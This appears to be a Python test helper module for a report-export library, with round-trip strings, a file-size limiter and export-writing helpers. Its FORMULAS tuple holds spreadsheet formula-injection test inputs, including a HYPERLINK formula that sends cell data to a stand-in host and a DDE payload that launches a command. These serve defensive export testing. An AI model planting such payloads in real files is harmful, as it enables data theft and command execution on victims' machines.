"""Exports written to files, for tests that read them back."""

import importlib
import resource
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

from reportedly.exports.layout import Layout, Shaping
from reportedly.exports.losses import Losses
from reportedly.records.dossier import Dossier

ODD = (
    'a, "b"; c',
    "two\nlines",
    "two\r\nlines",
    "قُتل 15 مسلحا",
    "צה״ל",
    "a\u202eb\u202c",
    "🕊️ 🇮🇶",
    "<r><t>no markup</t></r>",
    "a&b<c>",
    " spaces ",
    "_x0041_",
    "NULL",
    "true",
    "0012",
    "\\N",
    "1e5",
)
"""Texts that must come back as they are."""
FORMULAS = (
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    " =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    '=HYPERLINK("http://x.example/?"&A1,"go")',
    "=cmd|' /C calc'!A0",
)
"""Texts that a spreadsheet may take for formulas."""


@contextmanager
def limited(size: int) -> Iterator[None]:
    """Let no file grow beyond a size in bytes, as on a disk that is full."""
    before, most = resource.getrlimit(resource.RLIMIT_FSIZE)
    resource.setrlimit(resource.RLIMIT_FSIZE, (size, most))
    try:
        yield
    finally:
        resource.setrlimit(resource.RLIMIT_FSIZE, (before, most))


def layout_named(name: str) -> Layout:
    """Return a layout."""
    layout: Layout = importlib.import_module(f"reportedly.exports.layouts.{name}").LAYOUT
    return layout


def written(layout: Layout, folder: Path, *dossiers: Dossier, **options: Any) -> Path:
    """Write dossiers in a layout to a file, or folder, of a folder, and return it."""
    shaping = Shaping(rule=options.pop("rule", "ucdp"), losses=Losses(), **options)
    path = folder / f"export{layout.suffix}"
    sink = layout.sink(path, layout)
    for one in dossiers:
        for part, row in layout.shape(one, shaping):
            sink.write(part, row)
    sink.close()
    return path
